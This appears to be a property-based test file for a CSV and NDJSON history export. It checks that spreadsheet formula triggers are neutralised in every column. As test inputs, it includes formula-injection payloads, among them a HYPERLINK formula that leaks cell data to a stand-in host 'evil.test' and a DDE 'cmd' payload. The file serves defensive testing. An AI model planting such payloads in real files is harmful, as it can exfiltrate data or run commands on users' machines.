import fc from 'fast-check';
import { parseCsv } from '../../../../test/support/rfc4180-csv';
import { csvCell, csvHeader, CSV_COLUMNS, FORMULA_TRIGGERS, toCsvRow, toNdjsonLine } from './history-formats';
import type { HistoryEntry } from './lead-history';

/** Text that a spreadsheet would run, and the characters that make CSV quoting hard. */
const nasty = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', 'a', 'Z', '1', 'é', '😀') });
const text = fc.oneof(nasty, fc.string(), fc.constantFrom('=HYPERLINK("http://evil.test/?"&A1,"x")', "=cmd|' /C calc'!A0", '@SUM(A1:A9)', '+1', '-2+3', '\t=1', '\r=1'));
const optionalText = fc.option(text, { nil: undefined });
const number = fc.oneof(fc.integer({ min: -1000, max: 1000 }), fc.double({ noNaN: true, noDefaultInfinity: true }));

const entry: fc.Arbitrary<HistoryEntry> = fc.record({
  eventId: fc.uuid(),
  type: text,
  schemaVersion: fc.integer({ min: -3, max: 5 }),
  streamId: text,
  revision: fc.integer({ min: -1, max: 1000 }),
  position: text,
  // Any JSON, not only objects: the rule must hold for the payload column whatever it starts with.
  data: fc.jsonValue() as fc.Arbitrary<unknown> as fc.Arbitrary<Record<string, unknown>>,
  metadata: fc.record({
    tenantId: text,
    occurredAt: text,
    recordedAt: text,
    actor: text,
    correlationId: text,
    causationId: text,
    command: optionalText,
    integrity: fc.option(fc.record({ hash: text }), { nil: undefined }),
  }),
  transition: fc.record(
    {
      stage: fc.record({ before: text, after: text }),
      score: fc.record({ before: number, after: number }),
      opportunityStatus: fc.record({ before: text, after: text }),
    },
    { requiredKeys: [] },
  ),
});

const startsWithTrigger = (cell: string) => cell.length > 0 && FORMULA_TRIGGERS.includes(cell[0]);

/** The values of a row in CSV_COLUMNS order, as text (what the cell holds before neutralising). */
function cellTexts(e: HistoryEntry): string[] {
  const m = e.metadata as HistoryEntry['metadata'] & { integrity?: { hash?: string } };
  const t = e.transition;
  const values: unknown[] = [
    e.position, e.streamId, e.revision, e.eventId, e.type, e.schemaVersion, m.occurredAt, m.recordedAt, m.actor, m.actorName, m.onBehalfOf, m.command,
    m.correlationId, m.causationId, m.tenantId, t.stage?.before, t.stage?.after, t.score?.before, t.score?.after,
    t.opportunityStatus?.before, t.opportunityStatus?.after, m.integrity?.hash, e.data,
  ];
  return values.map((v) => (v === undefined || v === null ? '' : typeof v === 'string' ? v : JSON.stringify(v)));
}

describe('history CSV', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+41 79 000 00 00', `"'+41 79 000 00 00"`],
    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("http://evil.test")', `"'=HYPERLINK(""http://evil.test"")"`],
    [-5, `"'-5"`],
    [12, '12'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['plain', 'plain'],
    ["'quoted already", "'quoted already"],
    ['', ''],
    [undefined, ''],
    [null, ''],
    [{ note: '=1+1' }, '"{""note"":""=1+1""}"'],
    ['-', `"'-"`],
  ])('writes %j as %s', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('neutralises every cell a spreadsheet would evaluate, in every column, and keeps the rest exact', () => {
    fc.assert(
      fc.property(fc.array(entry, { maxLength: 8 }), (entries) => {
        const records = parseCsv(csvHeader() + entries.map(toCsvRow).join(''));
        expect(records[0]).toEqual([...CSV_COLUMNS]);
        expect(records).toHaveLength(entries.length + 1);
        records.slice(1).forEach((record, i) => {
          expect(record).toHaveLength(CSV_COLUMNS.length);
          for (const cell of record) expect(startsWithTrigger(cell)).toBe(false);
          // Reading the cell back gives the value, with one `'` in front exactly when it started with a trigger.
          expect(record).toEqual(cellTexts(entries[i]).map((value) => (startsWithTrigger(value) ? `'${value}` : value)));
        });
      }),
      { numRuns: 300 },
    );
  });

  it('leaves NDJSON as JSON: the values are data there, not cells', () => {
    fc.assert(
      fc.property(entry, (e) => {
        const line = toNdjsonLine(e);
        expect(line.endsWith('\n')).toBe(true);
        expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(e)));
      }),
    );
  });
});
